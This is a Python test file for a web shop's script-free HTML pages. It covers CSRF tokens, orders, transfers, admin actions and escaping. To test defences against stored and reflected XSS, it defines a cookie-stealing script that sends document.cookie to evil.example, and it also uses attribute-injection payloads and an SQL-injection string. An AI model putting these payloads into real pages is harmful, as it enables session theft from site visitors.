"""The shop's pages, as a browser without scripts uses them."""

import re

import pytest
from tests.examples.conftest import OWN_PAGE, PASSWORD

pytestmark = pytest.mark.anyio

OWN = '<script type="module" src="/static/shop.js"></script>'
SCRIPT = "<script>fetch('https://evil.example?cookie=' + document.cookie)</script>"


async def test_visitors_see_the_shelves_and_the_way_in(stranger):
    answer = await stranger.get("/", headers=OWN_PAGE)
    assert answer.status_code == 200
    assert answer.text.count('class="card"') == 24
    assert "/auth/login?next=/" in answer.text
    assert "/auth/register" in answer.text
    assert "Sign out" not in answer.text


async def test_every_product_has_its_picture(stranger):
    for product in (await stranger.get("/api/products")).json():
        answer = await stranger.get(f"/static/products/{product['id']}.svg")
        assert answer.status_code == 200, product["id"]
        assert answer.headers["content-type"] == "image/svg+xml"
        assert "<script" not in answer.text.replace(OWN, "")


async def test_pages_have_no_inline_script_or_style(ada, olga):
    """What a strict policy would block is not there in the first place."""
    paths = ["/", "/products/kale", "/orders", "/profile"]
    paths += ["/transfers", "/transfers/new"]
    paths += ["/admin/users", f"/admin/users/{ada.id}/remove"]
    for path in paths:
        answer = await olga.page.get(path, headers=OWN_PAGE)
        assert answer.status_code == 200, path
        assert "<script" not in answer.text.replace(OWN, "")
        assert "<style" not in answer.text
        assert not re.search(r"\s(style|on\w+)=", answer.text), path
        assert 'href="/static/shop.css"' in answer.text


async def test_every_form_that_posts_carries_the_token(ada, olga):
    await ada.api.post("/api/orders", json={"product_id": "kale"})
    pages = [(ada, path) for path in ("/products/kale", "/orders", "/transfers/new")]
    pages += [(ada, "/profile"), (olga, f"/admin/users/{ada.id}/remove")]
    for person, path in pages:
        text = (await person.page.get(path, headers=OWN_PAGE)).text
        forms = re.findall(r'<form[^>]*method="post".*?</form>', text, re.DOTALL)
        assert len(forms) >= 2, path
        for form in forms:
            token = re.search(r'name="csrf_token" value="([^"]+)"', form)
            assert token, form


async def test_the_token_in_the_page_is_proof_enough(ada):
    """A browser that sends neither Fetch-Metadata nor Origin has the hidden field."""
    text = (await ada.page.get("/profile", headers=OWN_PAGE)).text
    token = re.search(r'name="csrf_token" value="([^"]+)"', text)[1]
    form = {"csrf_token": token, "name": "Ada"}
    answer = await ada.page.post("/profile", data=form, headers={"Accept": "text/html"})
    assert answer.status_code == 303
    assert answer.headers["location"] == "/profile?done=renamed"


async def test_an_order_by_forms(ada):
    answer = await ada.post("/orders", product_id="secateurs", quantity="2")
    assert answer.status_code == 303
    assert answer.headers["location"] == "/orders?done=ordered"
    text = (await ada.page.get("/orders?done=ordered")).text
    assert "Thank you" in text
    assert "€118.00" in text
    (order,) = (await ada.api.get("/api/orders")).json()

    answer = await ada.post(f"/orders/{order['id']}", quantity="3")
    assert answer.headers["location"] == "/orders?done=changed"
    assert "€177.00" in (await ada.page.get("/orders")).text
    answer = await ada.post(f"/orders/{order['id']}/cancel")
    assert answer.headers["location"] == "/orders?done=cancelled"
    assert "No orders yet" in (await ada.page.get("/orders")).text


async def test_credit_by_form(ada, bob):
    answer = await ada.post("/transfers", to=bob.email, amount="12,5")
    assert answer.headers["location"] == "/transfers?done=sent"
    text = (await ada.page.get("/transfers")).text
    assert "€87.50" in text
    assert bob.email in text
    assert "€112.50" in (await bob.page.get("/transfers")).text


async def test_too_much_credit_is_refused_in_words(ada, bob):
    answer = await ada.post("/transfers", to=bob.email, amount="100.01")
    assert answer.status_code == 409
    assert "Your credit does not cover this." in answer.text
    assert f'value="{bob.email}"' in answer.text


async def test_what_was_typed_is_not_lost_when_it_is_wrong(ada):
    """A mistake is shown beside its field, with the rest as it was."""
    answer = await ada.post("/transfers", to="bob", amount="12.50")
    assert answer.status_code == 400
    assert 'aria-describedby="to-wrong"' in answer.text
    assert 'value="12.50"' in answer.text
    long = "word " * 500
    answer = await ada.post("/products/kale/reviews", stars="3", text=long)
    assert answer.status_code == 400
    assert 'aria-describedby="text-wrong"' in answer.text
    assert long.strip() in answer.text
    assert '<option value="3" selected>' in answer.text
    answer = await ada.post("/profile", name="two\nlines")
    assert 'aria-describedby="name-wrong"' in answer.text


async def test_a_script_in_a_review_is_text(ada, stranger):
    """Stored XSS (guide): the payload is shown, and is no element."""
    await ada.post("/profile", name=SCRIPT[:80])
    await ada.post("/products/kale/reviews", stars="1", text=SCRIPT)
    text = (await stranger.get("/products/kale", headers=OWN_PAGE)).text
    assert "<script" not in text.replace(OWN, "")
    assert text.count("&lt;script&gt;fetch(") == 2


async def test_a_script_in_a_search_is_text(stranger):
    """Reflected XSS, in text and in an attribute."""
    for payload in (SCRIPT, '"><img src=x onerror=alert(1)>', "' autofocus onfocus=x"):
        params = {"q": payload, "sort": payload, "done": payload}
        text = (await stranger.get("/", params=params, headers=OWN_PAGE)).text
        assert payload not in text
        assert "<script" not in text.replace(OWN, "")
        assert "<img src=x" not in text


async def test_a_notice_is_one_of_ours(stranger):
    """The address chooses a notice and cannot write one (content injection)."""
    text = (await stranger.get("/?done=Call+555-0100+to+verify")).text
    assert "555" not in text


async def test_honest_texts_pass_through_every_form(ada, stranger):
    for text in ("Conor O'Brien", "Tom & Jerry | cat", "'; DROP TABLE users; --", "🌱"):
        assert (await ada.post("/profile", name=text)).status_code == 303
        answer = await ada.post("/products/kale/reviews", stars="5", text=text)
        assert answer.status_code == 303, text
        assert (await stranger.get("/", params={"q": text})).status_code == 200
        review = (await stranger.get("/api/products/kale/reviews")).json()[0]
        assert (review["author"], review["text"]) == (text, text)


async def test_strangers_are_led_to_the_sign_in(stranger):
    for path in ("/orders", "/transfers", "/profile", "/admin/users"):
        answer = await stranger.get(path, headers=OWN_PAGE)
        assert answer.status_code == 303, path
        assert answer.headers["location"].startswith("/auth/login"), path


async def test_customers_do_not_see_the_admin_side(ada, olga):
    assert "/admin/users" not in (await ada.page.get("/")).text
    assert "/admin/users" in (await olga.page.get("/")).text
    answer = await ada.page.get("/admin/users", headers=OWN_PAGE)
    assert answer.status_code == 403
    assert olga.email not in answer.text


async def test_an_operator_is_asked_before_an_account_is_removed(town, ada, olga):
    await town.person("admin", email="root@example.org")
    text = (await olga.page.get("/admin/users", headers=OWN_PAGE)).text
    assert f"/admin/users/{ada.id}/remove" in text
    assert text.count("/remove") == 1  # neither herself nor the administrator
    text = (await olga.page.get(f"/admin/users/{ada.id}/remove")).text
    assert f"Remove <bdi>{ada.email}</bdi>?" in text
    answer = await olga.post(f"/admin/users/{ada.id}/remove")
    assert answer.headers["location"] == "/admin/users?done=removed"
    assert ada.email not in (await olga.page.get("/admin/users")).text


async def test_an_operator_ends_a_lock(town, ada, olga, stranger):
    """Somebody has guessed five times; a new browser of Ada's waits for the end of the
    lock, or asks the shop."""
    account = {"email": ada.email, "password": PASSWORD}
    for n in range(5):
        wrong = {**account, "password": f"a guess, number {n}"}
        assert (await stranger.post("/auth/login", json=wrong)).status_code == 401
    assert (await stranger.post("/auth/login", json=account)).status_code == 401
    answer = await ada.post(f"/admin/users/{ada.id}/unlock")
    assert answer.status_code == 403
    text = (await olga.page.get("/admin/users", headers=OWN_PAGE)).text
    assert f"/admin/users/{ada.id}/unlock" in text
    answer = await olga.post(f"/admin/users/{ada.id}/unlock")
    assert answer.headers["location"] == "/admin/users?done=unlocked"
    assert (await stranger.post("/auth/login", json=account)).status_code == 200
    assert (await olga.post("/admin/users/nobody/unlock")).status_code == 404


async def test_a_page_that_is_missing_says_so_kindly(stranger):
    answer = await stranger.get("/products/zeppelin", headers=OWN_PAGE)
    assert answer.status_code == 404
    assert "There is no such product." in answer.text
